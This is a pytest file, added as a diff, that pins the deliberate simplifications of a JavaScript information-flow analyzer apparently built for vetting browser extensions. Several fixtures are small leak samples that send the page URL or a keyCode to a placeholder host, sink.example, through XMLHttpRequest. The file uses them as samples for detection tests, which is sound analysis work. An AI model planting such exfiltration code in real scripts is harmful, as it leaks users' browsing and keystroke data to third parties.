@@ -1,0 +1,137 @@
+"""Executable documentation of the deliberate semantic simplifications.
+
+DESIGN.md lists where this reproduction simplifies full ES5/browser
+semantics (as the paper's own implementation also did — e.g. it omits
+uncaught-exception edges and does not model timing channels). These
+tests pin each simplification's *observable* behavior, so a future
+change that accidentally alters one fails loudly here rather than
+silently shifting analysis results.
+"""
+
+import pytest
+
+from repro.api import infer_signature, vet
+from repro.analysis import analyze
+from repro.domains import prefix as p
+from repro.ir import lower
+from repro.ir.nodes import GLOBAL_SCOPE, Var
+from repro.js import parse
+
+
+def value_of(source, name="witness", event_loop=False):
+    program = lower(parse(source), event_loop=event_loop)
+    result = analyze(program)
+    return result.atom_value_joined(
+        program.main.exit.sid, Var(name, GLOBAL_SCOPE)
+    )
+
+
+class TestFinallySimplification:
+    """`finally` runs on the normal path; the exceptional-path copy is
+    approximated (exceptions propagate to the outer handler directly)."""
+
+    def test_finally_runs_on_normal_path(self):
+        value = value_of(
+            """
+            var witness = "no";
+            try { var x = 1; } finally { witness = "ran"; }
+            """
+        )
+        assert value.string.admits("ran")
+
+    def test_catch_then_finally_normal_order(self):
+        value = value_of(
+            """
+            var witness = "";
+            try { throw "x"; } catch (e) { witness = witness + "c"; }
+            finally { witness = witness + "f"; }
+            """
+        )
+        assert value.string.admits("cf")
+
+
+class TestUncaughtExceptionSimplification:
+    """Uncaught exceptions are termination (the paper's Section 3.3
+    choice): no control edges, no flows through them."""
+
+    def test_code_after_conditional_uncaught_throw_not_dependent(self):
+        signature = infer_signature(
+            """
+            if (content.location.href == "x.example") {
+                throw "die";
+            }
+            var req = new XMLHttpRequest();
+            req.open("GET", "https://sink.example/ping", true);
+            req.send(null);
+            """
+        )
+        # The only path from the url check to the send is via the omitted
+        # uncaught-throw edge, so NO url flow is reported (termination
+        # channels are out of scope, as in the paper).
+        assert not any(e.source == "url" for e in signature.flows)
+
+
+class TestEventObjectSimplification:
+    """One shared abstract event object serves every handler: a load
+    handler reading keyCode is (soundly, imprecisely) a key source."""
+
+    def test_load_handler_reading_keycode_counts_as_key_source(self):
+        signature = infer_signature(
+            """
+            window.addEventListener("load", function (e) {
+                var req = new XMLHttpRequest();
+                req.open("GET", "https://sink.example/?k=" + e.keyCode, true);
+                req.send(null);
+            }, false);
+            """
+        )
+        assert any(e.source == "key" for e in signature.flows)
+
+
+class TestForInSimplification:
+    """for-in binds an unknown string, not the precise key set."""
+
+    def test_forin_variable_is_any_string(self):
+        value = value_of(
+            "var o = {only: 1}; var witness; for (witness in o) {}"
+        )
+        assert value.string.is_top or value.may_undef
+
+
+class TestArgumentsObjectUnsupported:
+    """The `arguments` object is not modeled: it reads as undefined (the
+    analysis stays sound for flows *into* declared parameters)."""
+
+    def test_arguments_reads_do_not_crash(self):
+        value = value_of(
+            """
+            var witness;
+            function f(a) { witness = arguments; return a; }
+            f("x");
+            """
+        )
+        assert value.may_undef
+
+    def test_declared_params_still_flow(self):
+        signature = infer_signature(
+            """
+            function leak(u) {
+                var req = new XMLHttpRequest();
+                req.open("GET", "https://sink.example/?u=" + u, true);
+                req.send(null);
+            }
+            leak(content.location.href);
+            """
+        )
+        assert any(e.source == "url" for e in signature.flows)
+
+
+class TestDoubleEvaluationSimplification:
+    """Compound member assignment evaluates the base expression twice in
+    the IR (per DESIGN.md); for effect-free bases this is invisible."""
+
+    def test_compound_member_assignment_result(self):
+        value = value_of(
+            "var o = {n: 1}; o.n += 2; var witness = o.n;"
+        )
+        assert value.number.concrete() == 3.0
